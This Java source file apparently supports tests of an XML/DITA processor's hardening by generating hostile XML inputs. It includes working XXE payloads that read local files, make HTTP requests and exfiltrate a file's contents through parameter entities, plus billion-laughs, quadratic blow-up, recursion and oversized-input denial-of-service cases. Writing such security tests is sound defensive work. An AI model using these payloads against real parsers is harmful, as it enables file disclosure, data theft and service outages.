package org.openguides.processing.testing;

import java.nio.charset.Charset;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

/**
 * A hostile topic.
 *
 * @param name     name of the attack
 * @param bytes    the file
 * @param readable whether it is harmless if only its own bytes are read; others cannot be read at all
 */
public record HostileXml(String name, byte[] bytes, boolean readable) {

    private static final String BODY = "<topic id='t'><title>&e;</title><body><p id='&e;'>&e;</p></body></topic>";
    private static final String PLAIN = "<topic id='t'><title>T</title></topic>";

    @Override
    public String toString() {
        return name;
    }

    /**
     * Returns one file of each kind.
     *
     * @param file URL of a file that must not be read
     * @param http URL that must not be requested
     */
    public static List<HostileXml> all(String file, String http) {
        return Stream.of(strangers(file, http), explosions(), damages())
                .flatMap(List::stream)
                .toList();
    }

    private static List<HostileXml> strangers(String file, String http) {
        return List.of(
                broken("general entity of a file", "<!DOCTYPE topic [<!ENTITY e SYSTEM '" + file + "'>]>" + BODY),
                broken("general entity over http", "<!DOCTYPE topic [<!ENTITY e SYSTEM '" + http + "'>]>" + BODY),
                broken(
                        "parameter entity of a file",
                        "<!DOCTYPE topic [<!ENTITY % p SYSTEM '" + file + "'>%p;]>" + BODY),
                broken(
                        "parameter entity over http",
                        "<!DOCTYPE topic [<!ENTITY % p SYSTEM '" + http + "'>%p;]>" + BODY),
                broken(
                        "file sent over http by parameter entities",
                        "<!DOCTYPE topic [<!ENTITY % f SYSTEM '" + file + "'><!ENTITY % s '<!ENTITY e SYSTEM \"" + http
                                + "?%f;\">'>%s;]>" + BODY),
                readable("DTD of a file", "<!DOCTYPE topic SYSTEM '" + file + "'>" + BODY),
                readable(
                        "DTD over http",
                        "<!DOCTYPE topic PUBLIC '-//OASIS//DTD DITA Topic//EN' '" + http + "'>" + BODY),
                readable(
                        "schemas and style sheets over http",
                        "<?xml-model href='" + http + "'?><?xml-stylesheet href='" + http + "'?>"
                                + PLAIN.replace(
                                        "<topic",
                                        "<topic xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance'"
                                                + " xsi:noNamespaceSchemaLocation='" + http + "'")),
                readable(
                        "inclusion of a file",
                        PLAIN.replace(
                                "</topic>",
                                "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' parse='text' href='" + file
                                        + "'/></topic>")));
    }

    private static List<HostileXml> explosions() {
        return List.of(
                broken("billion laughs", "<!DOCTYPE topic [" + laughs("ENTITY ", "&") + "]>" + BODY),
                broken(
                        "billion laughs of parameter entities",
                        "<!DOCTYPE topic [" + laughs("ENTITY % ", "&#37;") + "%e;]>" + BODY),
                broken(
                        "quadratic blow-up",
                        "<!DOCTYPE topic [<!ENTITY x '" + "x".repeat(9_000) + "'><!ENTITY e '" + "&x;".repeat(1_100)
                                + "'>]>" + BODY),
                broken("endless recursion", "<!DOCTYPE topic [<!ENTITY e '&f;'><!ENTITY f '&e;'>]>" + BODY),
                broken("very long entity", "<!DOCTYPE topic [<!ENTITY e '" + "x".repeat(1_000_000) + "'>]>" + BODY));
    }

    private static List<HostileXml> damages() {
        return List.of(
                broken("deep nesting", "<topic id='t'>" + "<p>".repeat(200_000)),
                broken("giant attribute", "<topic id='" + "x".repeat(2_000_000) + "'/>"),
                broken(
                        "100 000 attributes",
                        IntStream.range(0, 100_000)
                                .mapToObj(i -> " a" + i + "=''")
                                .collect(Collectors.joining("", "<topic id='t'", "/>"))),
                broken("giant name", "<topic id='t'><" + "p".repeat(1_000_000) + "/></topic>"),
                broken("giant prolog", "<!--" + "x".repeat(4_100_000) + "-->" + PLAIN),
                encoded("UTF-8 that is windows-1252", "UTF-8", Charset.forName("windows-1252")),
                encoded("UTF-16 that is UTF-8", "UTF-16", UTF_8),
                encoded("UTF-8 that is UTF-16", "UTF-8", UTF_16LE),
                encoded("unknown encoding", "x-no-such", UTF_8),
                broken("cut in the middle", PLAIN.substring(0, 25)),
                broken("zero bytes", PLAIN.replace("T", "\0")));
    }

    private static HostileXml readable(String name, String text) {
        return new HostileXml(name, text.getBytes(UTF_8), true);
    }

    private static HostileXml broken(String name, String text) {
        return new HostileXml(name, text.getBytes(UTF_8), false);
    }

    private static HostileXml encoded(String name, String declared, Charset actual) {
        String text = "<?xml version='1.0' encoding='" + declared + "'?>" + PLAIN.replace("T", "Grüße");
        return new HostileXml(name, text.getBytes(actual), false);
    }

    /** Creates entity {@code e} that expands to ten others, each of which expands to ten others, thirty times. */
    private static String laughs(String declaration, String reference) {
        return IntStream.rangeClosed(1, 30)
                .mapToObj(i -> "<!" + declaration + (i == 30 ? "e" : "e" + i) + " '"
                        + (reference + "e" + (i - 1) + ";").repeat(10) + "'>")
                .collect(Collectors.joining("", "<!" + declaration + "e0 ' '>", ""));
    }
}
